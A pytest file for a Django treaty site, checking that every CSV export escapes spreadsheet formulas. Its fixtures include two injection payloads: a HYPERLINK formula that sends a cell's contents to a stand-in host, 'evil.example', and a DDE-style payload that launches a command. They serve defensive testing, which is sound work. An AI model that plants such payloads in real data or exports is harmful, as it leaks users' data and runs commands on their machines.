"""CSV files never carry a live spreadsheet formula: a text cell that starts with = + - @ (or a
tab or carriage return) gets a leading apostrophe, in every CSV the site writes."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from common.csvfiles import spreadsheet_safe
from tests.factories import ParticipantFactory, RatificationFactory, StatementFactory, TreatyFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),  # a number stays a number
        ("+3", "+3"),
        ("2004-03-01", "2004-03-01"),
        ("Reservation: =1+1", "Reservation: =1+1"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


@pytest.fixture
def hostile(db):
    treaty = TreatyFactory(slug="convention", short_title="The Convention", position=1)
    participant = ParticipantFactory(code="UT", iso_alpha2="UT", name=FORMULA)
    record = RatificationFactory(treaty=treaty, participant=participant, note=CMD)
    StatementFactory(ratification=record, text=FORMULA)
    return record


def rows(content):
    return list(csv.reader(io.StringIO(content)))


def assert_no_live_formula(table):
    cells = [cell for row in table for cell in row]
    assert "'" + FORMULA in cells
    for cell in cells:
        assert cell[:1] not in ("=", "@", "\t", "\r"), cell
        if cell[:1] in ("+", "-"):
            float(cell)  # only numbers may start with a sign


def test_the_api_csv(client, hostile):
    for url in ("/api/v1/statements/?format=csv", "/api/v1/ratifications/?format=csv"):
        response = client.get(url)
        assert response.status_code == 200
        assert_no_live_formula(rows(response.content.decode()))


def test_an_api_error_asked_as_csv_is_never_a_spreadsheet(client, db):
    """Errors are problem documents (JSON) whatever the representation asked for: a value
    echoed in a message never reaches a spreadsheet as a cell."""
    response = client.get("/api/v1/statements/?format=csv&kind==1+1")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert "kind" in response.json()["errors"]


def test_the_treaty_participants_csv_and_the_matrix_csv(client, hostile):
    for url in (
        reverse("treaties:treaty_participants_csv", args=["convention"]),
        reverse("treaties:matrix_csv"),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        table = rows(response.content.decode())
        assert_no_live_formula(table)
    participants = rows(
        client.get(
            reverse("treaties:treaty_participants_csv", args=["convention"])
        ).content.decode()
    )
    assert "'" + CMD in participants[1]


def test_the_data_set_download(client, hostile):
    response = client.get("/data/download/treatykb.zip", follow=True)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(("statements.csv", "participants.csv", "ratifications.csv")):
                table = rows(archive.read(name).decode())
                cells = [cell for row in table for cell in row]
                assert FORMULA not in cells, name
                assert "'" + FORMULA in cells or "'" + CMD in cells, name
    # The JSON document is data, not a spreadsheet: unchanged.
    document = client.get("/data/download/treatykb.json", follow=True)
    body = b"".join(document.streaming_content) if document.streaming else document.content
    assert FORMULA.replace('"', '\\"').encode() in body


def test_the_admin_export(admin_client, hostile):
    response = admin_client.get(reverse("admin:treaties_statement_export"))
    assert response.status_code == 200
    assert_no_live_formula(rows(response.content.decode()))
